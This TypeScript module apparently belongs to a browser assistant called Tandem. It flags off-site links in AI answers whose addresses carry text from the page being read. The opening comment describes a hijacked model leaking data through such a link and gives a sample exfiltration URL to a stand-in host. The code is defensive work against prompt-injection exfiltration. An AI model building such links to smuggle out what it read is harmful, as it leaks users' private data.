// What a link in an answer would do if followed. A hijacked model's quietest way out is a link whose
// address carries what it read ("see https://evil.example/?q=<diff lines>"), so a link that leaves the
// page's site opens only after the user has seen the whole address and these warnings.
import type { PageContext } from '../context/types';
import { describeAction } from './describe';
import { excerpt, safeDecode } from './url-concerns';

export interface LinkCheck {
  href: string;
  /** Same origin as the page Tandem is reading: opened at once, like the page's own links. */
  sameSite: boolean;
  /** Reasons to look twice; empty when none. */
  warnings: string[];
}

/** A stretch of page text this long found in an address is taken as carried out, not as a coincidence. */
const carriedRunLength = 16;
/** Page text searched at most: enough for any page Tandem captures within its limits. */
const pageTextLimit = 4_000_000;

export function checkLink(href: string, pageUrl: string, pageText: string): LinkCheck | null {
  if (!URL.canParse(href)) return null;
  const url = new URL(href);
  const sameSite = URL.canParse(pageUrl) && url.origin !== 'null' && url.origin === new URL(pageUrl).origin;
  if (sameSite) return { href: url.href, sameSite, warnings: [] };
  const warnings = [...(describeAction({ type: 'open', url: url.href }).warnings ?? [])];
  const carried = pageTextCarriedBy(url, pageText);
  if (carried !== undefined) warnings.unshift(`The address carries text from the page: “${excerpt(carried, 60)}”.`);
  return { href: url.href, sameSite, warnings };
}

/** The first piece of the address (path segment, parameter, fragment) that repeats page text, if any. */
export function pageTextCarriedBy(url: URL, pageText: string): string | undefined {
  const haystack = normalise(pageText);
  for (const piece of addressPieces(url)) {
    const text = normalise(piece);
    if (text.length < carriedRunLength) continue;
    // Runs that overlap by half, so a quoted line inside a longer value is still found.
    for (let start = 0; start + carriedRunLength <= text.length; start += carriedRunLength / 2) {
      if (haystack.includes(text.slice(start, start + carriedRunLength))) return piece;
    }
  }
  return undefined;
}

/** Every string the capture holds, joined: the page as far as Tandem has read it. */
export function pageTextOf(context: PageContext): string {
  const parts: string[] = [];
  let length = 0;
  const visit = (value: unknown): void => {
    if (length > pageTextLimit) return;
    if (typeof value === 'string') {
      parts.push(value);
      length += value.length;
    } else if (Array.isArray(value)) {
      for (const item of value) visit(item);
    } else if (value !== null && typeof value === 'object') {
      for (const item of Object.values(value)) visit(item);
    }
  };
  visit([context.title, context.selection, context.focus, context.facts, context.data]);
  return parts.join('\n');
}

function addressPieces(url: URL): string[] {
  const pieces = url.pathname.split('/').map(safeDecode);
  for (const [name, value] of url.searchParams) pieces.push(name, value);
  if (url.hash.length > 1) pieces.push(safeDecode(url.hash.slice(1)));
  if (url.username) pieces.push(safeDecode(url.username));
  return pieces;
}

function normalise(text: string): string {
  return text.toLowerCase().replace(/\s+/g, ' ');
}
